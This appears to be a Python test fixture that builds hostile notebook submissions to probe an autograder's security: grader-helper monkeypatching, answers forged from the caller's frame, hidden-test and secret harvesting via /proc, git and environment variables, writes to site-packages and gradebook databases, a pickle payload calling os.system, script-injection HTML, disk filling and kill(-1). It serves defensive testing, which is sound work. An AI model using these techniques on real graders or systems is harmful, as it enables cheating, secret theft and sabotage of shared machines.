"""Hostile submissions of a01_receptive_fields, one per class of hole of issue 16, for
tests/test_hostile_boundary.py.

Each is built from the release notebook with the solution cells filled in (as
tests/hostile_submissions.py does), except that every hostile one carries a WRONG answer plus
its attack: ``receptive_field_of_stack`` returns ``(1, 1)`` (:data:`WRONG_RF`), or both
functions are wrong (:data:`WRONG_BOTH`). The same wrong answers, without any attack, are graded
as their own students in the same run (``wrong_rf``, ``wrong_conv``, ``wrong_both``): a hostile
submission that scores more than its baseline got points from its attack, and one that scores
less was punished for something an honest student could also do (or the grader broke).

Every attack is wrapped in ``try``/``except`` and runs after the function is defined, so that in a
process where the attack finds nothing to act on (a plain Python server instead of an IPython
kernel, a sandbox without the course) the submission is simply the wrong answer.

The classes (see ``issues show 16``, "Why"):

* ``a_*``: checks in the student's process: helpers rebound during the call, builtins patched,
  an import hook, a re-patching thread, values that read the expected value from the caller's
  frame, IPython input/AST transformers, a custom exception handler, ``sys.settrace``, ``os._exit``;
  and code meant for wherever the grader runs locked cells (the setup cell edited, a locked cell added);
* ``b_*``: forged partial credit (execute_result then an error; a graded cell added, re-pointed or duplicated);
* ``c_*``: reading the hidden tests or the instructor's secret (the running cell's source, the
  kernel's history, the checkout's ``.git``, the course by absolute and relative paths, unmounting,
  ``/proc/<pid>/root``, the environment), each found thing printed and raised PLAIN and ENCODED;
* ``d_*``: writes to site-packages (``.pth``), the checkout's course_lib, the course's
  ``nbgrader_config.py`` and ``gradebook.db`` (absolute, ``../``, ``/proc/<pid>/root``);
* ``e_*``: one notebook that could stop the class (not JSON, JSON that is not a notebook, a cell
  source that is a number, a notebook over 50 MB; and readable ones that write forged frames and
  a 2**62-byte header to file descriptor 1, or return 20 million ints once);
* ``f_*``: script in HTML outputs and markdown, terminal escapes, 2 GB written to /tmp, the
  working folder and the home folder, host unix sockets (a path and an abstract one) and a
  localhost TCP port, a process that outlives the grading, ``kill(-1)`` and the parent.

Two attacks carry a safety catch of the test, not of the attack: ``c_unmount`` unmounts and
``f_kill`` signals only in a mount / PID namespace other than the test's own (a grader that ran
them as root on the host would take the shared machine down rather than fail a test).

Every file or process an attack creates carries the run's id (``RUN``), so that the test can find
what is left behind on a machine shared with other work, and the payloads written into shared
places (the checkout's course_lib, the virtual environment) only act in processes whose
environment holds ``HOSTILE_BOUNDARY_RUN=<run>``: harmless to everyone but this test run.
"""
from __future__ import annotations

import copy
import json
import os

from course_admin import course as nc

from hostile_submissions import ASSIGNMENT, CONV, RF, RF_TESTS, answer, body, student_notebook

A = ASSIGNMENT
RUN_ENV = "HOSTILE_BOUNDARY_RUN"  # set in the grader's environment during the run (not a secret)
TOKEN_ENV = "COURSE_INSTRUCTOR_TOKEN"  # the instructor's secret, set in the grader's environment
HONEST = ("aaa_honest_first", "zzz_honest_last")  # graded first and last (students are sorted by name)
BASELINES = {"wrong_rf": "rf", "wrong_conv": "conv", "wrong_both": "both"}

# the class of every hostile submission and the honest wrong answer it must score like
CLASSES = {
    "a": "checks in the student's process", "b": "forged partial credit", "c": "reading hidden tests or secrets",
    "d": "writes where it must not", "e": "one notebook stops the class", "f": "smaller holes",
}

KIT = r'''
def _hostile_hunt(text):
    """The hidden-test regions in ``text``: a notebook's JSON, a git diff, a database page or source."""
    import json
    lines = []
    for raw in str(text).splitlines():
        s = raw.strip().lstrip("+-").strip()
        if s.endswith(","):
            s = s[:-1]
        if s.startswith('"') and s.endswith('"'):
            try:
                s = json.loads(s)
            except Exception:
                pass
        lines.extend(str(s).splitlines() or [""])
    out, within, seen = [], False, set()
    for line in lines:
        if "END HIDDEN" in line:
            within = False
        elif "BEGIN HIDDEN" in line:
            within = True
        elif within and line.strip() and line.strip() not in seen:
            seen.add(line.strip())
            out.append(line.strip())
    return "\n".join(out)


def _hostile_secrets():
    """Environment variables that look like the instructor's, here and in every readable /proc/*/environ."""
    import os
    words = ("TOKEN", "SECRET", "INSTRUCTOR")
    found = {f"{k}={v}" for k, v in os.environ.items() if any(w in k.upper() for w in words)}
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                for item in f.read().split(b"\0"):
                    text = item.decode("utf-8", "replace")
                    if any(w in text.split("=")[0].upper() for w in ("TOKEN", "SECRET", "INSTRUCTOR")):
                        found.add(text)
        except Exception:
            pass
    return "\n".join(sorted(found))


def _hostile_show(label, text, limit=6000):
    """Print ``text`` plain and encoded (base64, zlib+base64, hex, reversed); return the encodings as one line."""
    import base64, zlib
    text = str(text)[:limit]
    data = text.encode("utf-8", "replace")
    forms = [("base64", base64.b64encode(data).decode()), ("zlib", base64.b64encode(zlib.compress(data, 9)).decode()),
             ("hex", data.hex()), ("reversed", text[::-1]), ("plain", text)]
    for name, value in forms:
        print(f"LOOT {label} {name}: {value}")
    return " ".join(f"{name}={value}" for name, value in forms)


def _hostile_read(path, limit=4 * 2**20):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except Exception as err:
        return ""
'''

# fakes of the grading helpers that pass the current guard's self-test (a wrong value with what="x"
# still fails) and claim to be course_lib's (``__module__``), so that the guard does not see them
FAKES = r'''
def _hostile_fakes():
    import types
    src = """
def check_equal(got, expected, what, hint=None):
    if what == "x" and got != expected:
        raise AssertionError("x")
def check_close(got, expected, what, hint=None, **kwargs):
    if what == "x" and not bool((got == expected).all()):
        raise AssertionError("x")
def check_shape(got, expected_shape, what, hint=None):
    if what == "x" and tuple(got.shape) != tuple(expected_shape):
        raise AssertionError("x")
def check_raises(exception, fn, *args, what, hint=None, **kwargs):
    if what == "x":
        try:
            fn(*args, **kwargs)
        except exception:
            return
        raise AssertionError("x")
def check_runs(fn, *args, what, hint=None, **kwargs):
    return None
def check_not_calling(fn, forbidden, *args, what, hint=None, **kwargs):
    return None
"""
    space = {"__name__": "course_lib.grading"}
    exec(compile(src, "/work/main/course_lib/grading/__init__.py", "exec"), space)
    return {k: v for k, v in space.items() if k.startswith("check_")}
'''

WRONG_RF = "return 1, 1"
WRONG_CONV = "return 0"


def _rf_cell(source_nb, attack_at_call: str = "", attack_after: str = "", kit: str = "") -> str:
    """The RF solution cell: the wrong answer (``(1, 1)``), ``attack_at_call`` run inside the
    function before it returns, and ``attack_after`` run once the function is defined."""
    call = ""
    if attack_at_call:
        call = "try:\n" + _indent(attack_at_call) + "\nexcept BaseException as _hostile_err:\n" \
               "    if type(_hostile_err).__name__ in ('ValueError', 'HostileLoot'):\n        raise\n"
    cell = body(source_nb, RF, call + WRONG_RF)
    if attack_after:
        cell += "\n\n" + kit + "\ntry:\n" + _indent(attack_after) + "\nexcept Exception as _hostile_err:\n" \
                "    print('attack failed:', type(_hostile_err).__name__)\n"
    elif kit:
        cell += "\n\n" + kit
    return cell


def _indent(code: str, by: str = "    ") -> str:
    return "\n".join(by + line if line.strip() else line for line in code.strip("\n").splitlines())


def _sub(text: str, **values) -> str:
    for key, value in values.items():
        text = text.replace(f"@{key}@", str(value))
    return text


# --- A: checks in the student's process ------------------------------------------------------------

A_ATTACKS = {
    # during the call (inside the test cell, after the guard ran): the test cell's globals, found
    # through sys.modules['__main__'], get fakes; and course_lib.grading is replaced in sys.modules
    "a_sys_modules": ("""
import sys, types
fakes = _hostile_fakes()
main = sys.modules.get("__main__")
vars(main).update(fakes)
fake = types.ModuleType("course_lib.grading")
vars(fake).update(fakes)
sys.modules["course_lib.grading"] = fake
for depth in range(1, 12):
    try:
        sys._getframe(depth).f_globals.update({k: v for k, v in fakes.items() if k in sys._getframe(depth).f_globals})
    except ValueError:
        break
""", ""),
    # the __class__ of the grading module swapped for one that hands out fakes, and the code of the
    # helper functions the test cell holds swapped for do-nothing code (the function objects stay)
    "a_class_swap": ("""
import sys, types
fakes = _hostile_fakes()
module = sys.modules.get("course_lib.grading")
class _Lying(types.ModuleType):
    def __getattribute__(self, name):
        if name in fakes:
            return fakes[name]
        return types.ModuleType.__getattribute__(self, name)
try:
    module.__class__ = _Lying
except Exception:
    pass
for depth in range(1, 12):
    try:
        space = sys._getframe(depth).f_globals
    except ValueError:
        break
    for name, fake in fakes.items():
        real = space.get(name)
        if isinstance(real, types.FunctionType) and real is not fake:
            try:
                real.__code__ = (lambda *a, **k: None).__code__
            except Exception:
                pass
""", ""),
    # every dict that refers to a real helper (module dicts, the test cell's globals, copies kept by
    # a guard) gets the fake instead, found with gc.get_referrers
    "a_gc_referrers": ("""
import gc, sys
fakes = _hostile_fakes()
grading = sys.modules.get("course_lib.grading")
for name, fake in fakes.items():
    real = getattr(grading, name, None)
    if real is None:
        continue
    for ref in gc.get_referrers(real):
        if isinstance(ref, dict):
            for key, value in list(ref.items()):
                if value is real:
                    ref[key] = fake
""", ""),
    # builtins.isinstance lies for the object the function returns, which compares equal to anything
    # and takes the length and items of the expected value found in the caller's frame
    "a_builtins_isinstance": ("", """
import builtins, sys, types
_real_isinstance = builtins.isinstance
def _expected():
    for depth in range(1, 30):
        try:
            frame = sys._getframe(depth)
        except ValueError:
            return (1, 1)
        if "expected" in frame.f_locals and type(frame.f_locals["expected"]) in (tuple, list):
            return frame.f_locals["expected"]
class _Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return len(_expected())
    def __iter__(self): return iter(_expected())
    def __getitem__(self, i): return _expected()[i]
    def __repr__(self): return repr(_expected())
    __hash__ = object.__hash__
src = "def isinstance(obj, cls):\\n    if type(obj) is _Anything:\\n        return True\\n    return _real(obj, cls)\\n"
space = {"__name__": "builtins", "_Anything": _Anything, "_real": _real_isinstance}
exec(src, space)
builtins.isinstance = space["isinstance"]
_hostile_answer = _Anything()
_previous = receptive_field_of_stack
def receptive_field_of_stack(layers):
    _previous(layers)
    return _hostile_answer
"""),
    # AssertionError replaced by a SystemExit (IPython does not report a SystemExit as an error), and
    # builtins.__build_class__ hooked: every class built afterwards (the guard's
    # GradingIntegrityError included) derives from that SystemExit, and the hook rebinds the
    # helpers of the module that builds the class
    "a_builtins_assert_build_class": ("""
import sys
class _Tiny:
    pass
""", """
import builtins, sys
_Quiet = type("AssertionError", (SystemExit,), {"__module__": "builtins"})
builtins.AssertionError = _Quiet
_real_build = builtins.__build_class__
fakes = _hostile_fakes()
def _build(func, name, *bases, **kw):
    try:
        frame = sys._getframe(1)
        for space in (frame.f_globals, sys.modules["__main__"].__dict__):
            for key in fakes:
                if key in space:
                    space[key] = fakes[key]
    except Exception:
        pass
    if name in ("GradingIntegrityError",):
        bases = (_Quiet,)
    return _real_build(func, name, *bases, **kw)
_build.__module__ = "builtins"
builtins.__build_class__ = _build
"""),
    # an import hook at the front of sys.meta_path hands out a fake course_lib.grading whenever it is
    # imported afresh (as the current guard does before every test cell)
    "a_meta_path": ("", """
import sys, types, importlib.abc, importlib.util
fakes = _hostile_fakes()
class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, fullname, path=None, target=None):
        if fullname == "course_lib.grading":
            return importlib.util.spec_from_loader(fullname, self)
        return None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.__dict__.update(fakes)
        module.__all__ = list(fakes) + ["describe_call"]
        module.describe_call = lambda name, *a, **k: name
_Finder.__module__ = _Finder.find_spec.__module__ = "importlib._bootstrap"
sys.meta_path.insert(0, _Finder())
sys.modules.pop("course_lib.grading", None)
"""),
    # a daemon thread puts the fakes back into the notebook's namespace and course_lib.grading every millisecond
    "a_thread": ("", """
import sys, threading, time
fakes = _hostile_fakes()
def _keep_patching():
    while True:
        try:
            vars(sys.modules["__main__"]).update(fakes)
            grading = sys.modules.get("course_lib.grading")
            if grading is not None:
                vars(grading).update(fakes)
        except Exception:
            pass
        time.sleep(0.001)
threading.Thread(target=_keep_patching, daemon=True, name="pydevd.Reader").start()
"""),
    # the function returns the expected value itself, read from the caller's frame
    "a_frame_read": ("""
import sys
for depth in range(1, 30):
    try:
        frame = sys._getframe(depth)
    except ValueError:
        break
    for space in (frame.f_locals, frame.f_globals):
        found = space.get("expected")
        if type(found) in (tuple, list) and len(found) == 2:
            return tuple(found)
""", ""),
    # a tuple whose length, items, int, index and repr come from the caller's expected value and
    # that compares equal to anything
    "a_liar": ("""
import sys
def _expected():
    for depth in range(2, 30):
        try:
            frame = sys._getframe(depth)
        except ValueError:
            return (1, 1)
        for space in (frame.f_locals, frame.f_globals):
            if type(space.get("expected")) in (tuple, list):
                return tuple(space["expected"])
    return (1, 1)
class Liar(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = tuple.__hash__
    def __len__(self): return len(_expected())
    def __iter__(self): return iter(_expected())
    def __getitem__(self, i): return _expected()[i]
    def __int__(self): return 1
    def __index__(self): return 1
    def __repr__(self): return repr(_expected())
return Liar((1, 1))
""", ""),
    # IPython: an input transformer empties every test cell before it runs
    "a_input_transformer": ("", """
ip = get_ipython()
def _blank(lines):
    if any("check_" in line or "# Tests" in line for line in lines):
        return ["pass\\n"]
    return lines
ip.input_transformers_cleanup.append(_blank)
ip.input_transformers_post.append(_blank)
"""),
    # IPython: an AST transformer replaces every test cell's body by `pass`
    "a_ast_transformer": ("", """
import ast
class _Gut(ast.NodeTransformer):
    def visit_Module(self, node):
        names = {n.id for n in ast.walk(node) if isinstance(n, ast.Name)}
        if names & {"check_equal", "check_raises", "check_not_calling", "check_runs"}:
            node.body = [ast.Pass()]
        return node
get_ipython().ast_transformers.append(_Gut())
"""),
    # IPython: a pre_run_cell callback and a custom exception handler that shows nothing for an AssertionError
    "a_custom_exc": ("", """
ip = get_ipython()
ip.set_custom_exc((AssertionError, Exception), lambda shell, etype, value, tb, tb_offset=None: None)
def _rewrite(info):
    try:
        info.raw_cell = "pass"
    except Exception:
        pass
ip.events.register("pre_run_cell", _rewrite)
"""),
    # sys.settrace (and threading.settrace): inside check_equal and _fail, jump straight to the return
    "a_settrace": ("", """
import inspect, sys, threading
def _return_line(fn_name):
    grading = sys.modules.get("course_lib.grading")
    fn = getattr(grading, fn_name, None)
    lines, start = inspect.getsourcelines(fn)
    for i, line in enumerate(lines):
        if line.strip() == "return":
            return start + i
def _local(frame, event, arg):
    if event == "line" and frame.f_code.co_name == "check_equal":
        try:
            target = _return_line("check_equal")
            if target and frame.f_lineno < target:
                frame.f_lineno = target
        except Exception:
            pass
    return _local
def _global(frame, event, arg):
    if frame.f_code.co_name == "check_equal":
        return _local
    return None
sys.settrace(_global)
threading.settrace(_global)
"""),
    # the function prints what a passing run prints, registers an atexit that prints more, and ends
    # the process with status 0 before its wrong value could be compared
    "a_exit_fake": ("""
import atexit, os, sys
print("All tests passed: 10/10")
sys.stdout.flush()
atexit.register(lambda: print("All tests passed: 10/10"))
os._exit(0)
""", ""),
}


# --- B: forged partial credit ----------------------------------------------------------------------

B_ATTACKS = {
    # an execute_result "2" through IPython's displayhook (a plain sys.displayhook elsewhere), then an error
    "b_displayhook": ("""
import sys
try:
    get_ipython().displayhook(2)
except NameError:
    sys.displayhook(2)
raise ValueError("after the execute_result")
""", ""),
    # a raw display of {'text/plain': '2'}, then an error
    "b_display_raw": ("""
from IPython.display import display
display({"text/plain": "2"}, raw=True)
raise ValueError("after the display")
""", ""),
    # a raw execute_result message sent on the kernel's iopub socket, then an error
    "b_session_send": ("""
kernel = get_ipython().kernel
parent = kernel.get_parent("shell") if hasattr(kernel, "get_parent") else kernel._parent_header
content = {"execution_count": 1, "data": {"text/plain": "2"}, "metadata": {}}
kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent,
                    ident=kernel._topic("execute_result"))
raise ValueError("after the execute_result message")
""", ""),
}

# the grading helpers rebound to no-ops: harmless in the student's process, fatal where the tests run
NO_OP_HELPERS = """
def check_equal(*args, **kwargs):
    return None
def check_raises(*args, **kwargs):
    return None
def check_not_calling(*args, **kwargs):
    return None
def check_runs(*args, **kwargs):
    return None
"""

GRADED_CELL = {"grade": True, "grade_id": "bonus_points", "locked": True, "points": 100, "schema_version": 3,
               "solution": False, "task": False}


# --- C: reading the hidden tests and the instructor's secret ---------------------------------------

C_FRAMES = """
import inspect, linecache, sys
found = []
for info in inspect.stack():
    frame = info.frame
    found.append(_hostile_hunt("".join(info.code_context or [])))
    found.append(_hostile_hunt("".join(linecache.getlines(frame.f_code.co_filename))))
    found.append(_hostile_hunt(_hostile_read(frame.f_code.co_filename)))
    try:
        found.append(_hostile_hunt(inspect.getsource(frame.f_code)))
    except Exception:
        pass
    def consts(code):
        for c in code.co_consts:
            if isinstance(c, str) and len(c) > 20:
                yield c
            elif hasattr(c, "co_consts"):
                yield from consts(c)
    found.append("\\n".join(consts(frame.f_code)))
for filename in list(linecache.cache):
    found.append(_hostile_hunt("".join(linecache.getlines(filename))))
raise HostileLoot(_hostile_show("frames", "\\n".join(x for x in found if x)))
"""

C_KERNEL = """
import sys
found = []
main = vars(sys.modules["__main__"])
for name in ("In", "_ih", "_i", "_ii", "_iii"):
    value = main.get(name)
    found.append(_hostile_hunt("\\n".join(value) if isinstance(value, list) else str(value or "")))
try:
    ip = get_ipython()
    found.append(_hostile_hunt("\\n".join(ip.history_manager.input_hist_raw)))
    found.append(_hostile_hunt(str(ip.parent_header)))
    kernel = ip.kernel
    parent = kernel.get_parent("shell") if hasattr(kernel, "get_parent") else kernel._parent_header
    found.append(_hostile_hunt(parent["content"]["code"]))
    found.append(_hostile_hunt("\\n".join(str(r) for r in ip.history_manager.get_range(raw=True, output=False))))
except Exception as err:
    found.append("kernel: " + type(err).__name__)
found.append(_hostile_secrets())
raise HostileLoot(_hostile_show("kernel", "\\n".join(x for x in found if x)))
"""

# a pre_run_cell callback records each cell as it starts; post_run_cell prints it encoded
C_PRE_RUN = """
ip = get_ipython()
_hostile_seen = []
def _record(info):
    _hostile_seen.append(_hostile_hunt(getattr(info, "raw_cell", "")))
def _show(result):
    if _hostile_seen and _hostile_seen[-1]:
        _hostile_show("pre_run_cell", _hostile_seen[-1])
ip.events.register("pre_run_cell", _record)
ip.events.register("post_run_cell", _show)
"""

C_GIT = """
import os, subprocess, zlib
found = []
for repo in (CHECKOUT, os.path.dirname(os.path.dirname(__import__("course_lib").__file__))):
    for args in (["log", "-p", "--all", "--", "assignments"], ["show", "HEAD:assignments/source/@A@/@A@.ipynb"]):
        try:
            out = subprocess.run(["git", "-C", repo, *args], capture_output=True, timeout=60).stdout
            found.append(_hostile_hunt(out.decode("utf-8", "replace")))
        except Exception as err:
            found.append(f"git {args[0]}: {type(err).__name__}")
    objects = os.path.join(repo, ".git", "objects")
    for folder in sorted(os.listdir(objects)) if os.path.isdir(objects) else []:
        if len(folder) != 2:
            continue
        for name in os.listdir(os.path.join(objects, folder)):
            try:
                with open(os.path.join(objects, folder, name), "rb") as f:
                    data = zlib.decompress(f.read())
                if b"BEGIN HIDDEN" in data:
                    found.append(_hostile_hunt(data.decode("utf-8", "replace")))
            except Exception:
                pass
_HOSTILE_LOOT = "\\n".join(x for x in found if x)
_hostile_show("git", _HOSTILE_LOOT)
"""

PATHS = """
def _hostile_paths():
    rel = ["source/@A@/@A@.ipynb", "gradebook.db", "assignments/source/@A@/@A@.ipynb", "release/@A@/@A@.ipynb",
           "autograded/aaa_honest_first/@A@/@A@.ipynb"]
    paths = [COURSE + "/" + r for r in rel] + [CHECKOUT + "/" + r for r in rel]
    paths += ["../" * depth + r for depth in range(0, 9) for r in rel]
    return paths
"""

C_FILES = """
import glob, os, sqlite3
found = []
for path in _hostile_paths():
    found.append(_hostile_hunt(_hostile_read(path)))
    if path.endswith(".db"):
        try:
            with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
                for (source,) in db.execute("SELECT source FROM source_cell"):
                    found.append(_hostile_hunt(source))
        except Exception:
            pass
found.append(_hostile_secrets())
_HOSTILE_LOOT = "\\n".join(x for x in found if x)
_hostile_show("files", _HOSTILE_LOOT)
"""

# walk the whole file system (10 s at most) for the assignment's notebooks and gradebooks
C_WALK = """
import os, time
found, start = [], time.time()
for top, dirs, files in os.walk("/"):
    if time.time() - start > 10:
        break
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev")]
    for name in files:
        if name in ("@A@.ipynb", "gradebook.db") or name.endswith(".ipynb") and "@A@" in top:
            found.append(_hostile_hunt(_hostile_read(os.path.join(top, name))))
_HOSTILE_LOOT = "\\n".join(x for x in found if x)
_hostile_show("walk", _HOSTILE_LOOT)
"""

C_UNMOUNT = """
import ctypes, os
mounts = _hostile_read("/proc/self/mountinfo")
print("mountinfo:", mounts[:3000])
libc = ctypes.CDLL(None, use_errno=True)
points = [line.split()[4] for line in mounts.splitlines() if len(line.split()) > 4]
done = []
# a safety catch of the test, not of the attack: never unmount in the host's own mount namespace
# (a grader that ran this as root there would take the shared machine's mounts away)
if os.readlink("/proc/self/ns/mnt") != HOST_MNT_NS:
    for point in reversed(points):
        for flags in (2, 0):  # MNT_DETACH, then plain
            if libc.umount2(point.encode(), flags) == 0:
                done.append(point)
                break
    os.system("umount -l -a 2>/dev/null")
print("unmounted:", done)
found = [_hostile_hunt(_hostile_read(path)) for path in _hostile_paths()]
found.append(_hostile_secrets())
_HOSTILE_LOOT = "\\n".join(x for x in found if x)
_hostile_show("unmount", _HOSTILE_LOOT)
"""

C_PROC = """
import os
found = []
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("pids:", len(pids))
for pid in pids:
    for path in _hostile_paths():
        if path.startswith("/"):
            found.append(_hostile_hunt(_hostile_read(f"/proc/{pid}/root{path}")))
        else:
            found.append(_hostile_hunt(_hostile_read(f"/proc/{pid}/cwd/{path}")))
    try:
        print("cmdline", pid, _hostile_read(f"/proc/{pid}/cmdline")[:200].replace("\\0", " "))
    except Exception:
        pass
found.append(_hostile_secrets())
_HOSTILE_LOOT = "\\n".join(x for x in found if x)
_hostile_show("proc", _HOSTILE_LOOT)
"""

C_ENV = """
import os
_HOSTILE_LOOT = _hostile_secrets() + "\\n" + "\\n".join(f"{k}={v}" for k, v in os.environ.items())
_hostile_show("environ", _HOSTILE_LOOT)
"""

# at call time (inside a test cell), what the module found is raised again in the error message
RAISE_LOOT = "raise HostileLoot(_hostile_show('call', globals().get('_HOSTILE_LOOT', '')))\n"
LOOT_CLASS = "class HostileLoot(ValueError):\n    pass\n"


# --- D: writes where it must not -------------------------------------------------------------------

D_PTH = """
import os, site, sys
payload = ("import os; exec(\\"import numbers\\\\nnumbers.Integral = type('NotIntegral', (), {})\\") "
           "if os.environ.get('@RUN_ENV@') == '@RUN@' else None\\n")
targets = set(site.getsitepackages() + [site.getusersitepackages()] + [p for p in sys.path if "site-packages" in p])
for folder in sorted(targets):
    for path in (os.path.join(folder, "hostile_@RUN@.pth"), os.path.join(folder, "zz_hostile_@RUN@.pth")):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(path, "w") as f:
                f.write(payload)
            print("wrote", path)
        except Exception as err:
            print("could not write", path, type(err).__name__)
"""

# appended to course_lib/grading/__init__.py in the checkout: acts only in this test run's processes
COURSE_LIB_PAYLOAD = ("\n# hostile @RUN@\nimport os as _hostile_os\n"
                      "if _hostile_os.environ.get('@RUN_ENV@') == '@RUN@':\n"
                      "    def check_equal(*a, **k):\n"
                      "        raise AssertionError('sabotaged by a hostile submission')\n")

D_COURSE_LIB = """
import os
payload = PAYLOAD
routes = [CHECKOUT + "/course_lib"]
try:
    routes.append(os.path.dirname(__import__("course_lib").__file__))
except Exception:
    pass
routes += [f"/proc/{pid}/root" + CHECKOUT + "/course_lib" for pid in os.listdir("/proc") if pid.isdigit()]
for folder in routes:
    try:
        with open(os.path.join(folder, "grading", "__init__.py"), "a") as f:
            f.write(payload)
        with open(os.path.join(folder, "hostile_@RUN@.py"), "w") as f:
            f.write(payload)
        print("wrote course_lib through", folder)
        break  # the checkout is shared: one change is enough to show the hole
    except Exception as err:
        print("could not write", folder, type(err).__name__)
"""

D_COURSE_FILES = """
import os, sqlite3
config_line = CONFIG_LINE
pids = [p for p in os.listdir("/proc") if p.isdigit()]
prefixes = [""] + [f"/proc/{pid}/root" for pid in pids]
configs = [p + COURSE + "/nbgrader_config.py" for p in prefixes] + ["../" * d + "nbgrader_config.py" for d in range(9)]
configs += [f"/proc/{pid}/cwd/" + "../" * d + "nbgrader_config.py" for pid in pids for d in range(4)]
for path in configs:
    try:
        with open(path, "a") as f:
            f.write(config_line)
        print("wrote", path)
    except Exception as err:
        pass
dbs = [p + COURSE + "/gradebook.db" for p in prefixes] + ["../" * d + "gradebook.db" for d in range(9)]
for path in dbs:
    try:
        with sqlite3.connect(path, timeout=1) as db:
            db.execute("UPDATE grade SET manual_score = 0 WHERE 1")
            db.execute("UPDATE grade SET auto_score = 0 WHERE 1")
        print("updated", path)
    except Exception:
        pass
"""


# E: frames written straight to file descriptor 1 (the protocol pipe of a plain server): a forged
# reply whose unpickling would run a command (a marker file in /tmp), and a header that announces 2**62 bytes
E_PROTOCOL = """
import io, os, pickle
class _Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/hostile_@RUN@_unpickled",))
frames = [pickle.dumps({"ok": True, "value": _Evil(), "result": _Evil(), "output": "forged"})]
try:
    import torch
    buf = io.BytesIO()
    torch.save({"ok": True, "value": _Evil(), "result": _Evil()}, buf)
    frames.insert(0, buf.getvalue())
except Exception:
    pass
for payload in frames:
    os.write(1, len(payload).to_bytes(8, "big") + payload)
os.write(1, (2**62).to_bytes(8, "big") + b"garbage")
"""


# E: one huge reply (20 million ints) on the first call, to swamp the process that reads the replies
E_HUGE_REPLY = """
global _hostile_sent
if not globals().get("_hostile_sent"):
    _hostile_sent = True
    return list(range(20_000_000))
"""

# F: signals to every process the sandbox can reach (kill -1), its parent and its process group;
# gated, as a safety catch of the test, on a PID namespace of its own (never the host's)
F_KILL = """
import os, signal
if os.readlink("/proc/self/ns/pid") != HOST_PID_NS:
    for target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
                   lambda: os.kill(-1, signal.SIGKILL)):
        try:
            target()
        except Exception as err:
            print("could not signal:", type(err).__name__)
"""


def config_line(base: str, run: str) -> str:
    """What d_course_files appends to every nbgrader_config.py it reaches: a marker file in ``base``."""
    return f"\nopen({str(base) + '/config_ran_' + run!r}, 'w').write('the course config ran student code')  # hostile\n"


# --- F: smaller holes ------------------------------------------------------------------------------

HTML_PAYLOAD = ('<script>window.hostile_script_@RUN@ = 1</script>'
                '<img src="x" onerror="window.hostile_img_@RUN@ = 1">'
                '<a href="javascript:window.hostile_js_@RUN@ = 1">click</a>'
                '<svg onload="window.hostile_svg_@RUN@ = 1"></svg>'
                '<iframe srcdoc="&lt;script&gt;parent.hostile_iframe_@RUN@ = 1&lt;/script&gt;"></iframe>'
                '<meta http-equiv="refresh" content="0; url=javascript:hostile_meta_@RUN@">')

F_HTML = """
from IPython.display import HTML, display
display(HTML(PAYLOAD))
display({"text/html": PAYLOAD}, raw=True)
"""

ESCAPES = ("\x1b]0;hostile title\x07\x1b[2J\x1b[H\x1b[31mRED\x1b[0m\x9b2J\r"
           "\u202eevil reversed\u202c \u2066isolate\u2069 \x1b]8;;http://example.invalid\x07link\x1b]8;;\x07\x1bc")

F_DISK = """
import os, signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a file-size limit then gives EFBIG instead of killing
chunk = b"\\0" * (16 * 2**20)
for folder in ("/tmp", ".", os.path.expanduser("~")):
    written = 0
    for i in range(64):  # 64 files of 32 MB: 2 GB, whatever the limit on one file
        path = os.path.join(folder, f"hostile_@RUN@_fill_{i}")
        try:
            with open(path, "wb") as f:
                for _ in range(2):
                    f.write(chunk)
                    written += len(chunk)
        except Exception as err:
            print("stopped", path, type(err).__name__)
            break
    print("wrote", written >> 20, "MB to", folder)
"""

F_SOCKET = """
import socket
targets = ((SOCKET_PATH, socket.AF_UNIX), ("\\0hostile-@RUN@", socket.AF_UNIX),
           (("127.0.0.1", TCP_PORT), socket.AF_INET))
for address, family in targets:
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(address)
        s.sendall(b"hostile @RUN@ connected")
        s.close()
        print("connected to", repr(address))
    except Exception as err:
        print("could not connect to", repr(address), type(err).__name__)
"""

DAEMON_CODE = "import time; time.sleep(900)  # hostile-daemon-@RUN@"
F_DAEMON = """
import os, subprocess, sys
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", DAEMON])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
subprocess.Popen(["setsid", "nohup", sys.executable, "-c", DAEMON], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("daemons started")
"""


def build(release_nb, source_nb, *, course_root: str, checkout: str, base: str, run: str, socket_path: str,
          tcp_port: int) -> dict:
    """``{student: notebook or bytes}``: the honest and wrong baselines and every hostile submission.

    Args:
        course_root: the course being graded (absolute path: the intruders try it).
        checkout: the repository's root (its ``.git``, ``course_lib``, ``assignments``).
        base: a folder of the test; the course's config writes a marker there if it ever runs student code.
        run: this run's id, in every file and process an attack creates.
        socket_path, tcp_port: where the test listens for connections from a sandbox.
    """
    solution_rf, solution_conv = answer(source_nb, RF), answer(source_nb, CONV)
    wrong_conv = body(source_nb, CONV, WRONG_CONV)
    consts = f"COURSE, CHECKOUT = {course_root!r}, {checkout!r}\n"
    values = dict(A=A, RUN=run, RUN_ENV=RUN_ENV)

    def nb(rf=None, conv=None, append=(), **kw):
        replace = {RF: rf or solution_rf, CONV: conv or solution_conv}
        return student_notebook(release_nb, source_nb, replace, append=append, **kw)

    def rf(at_call="", after="", kit=""):
        return _sub(_rf_cell(source_nb, at_call, after, kit), **values)

    out = {HONEST[0]: nb(), HONEST[1]: nb(),
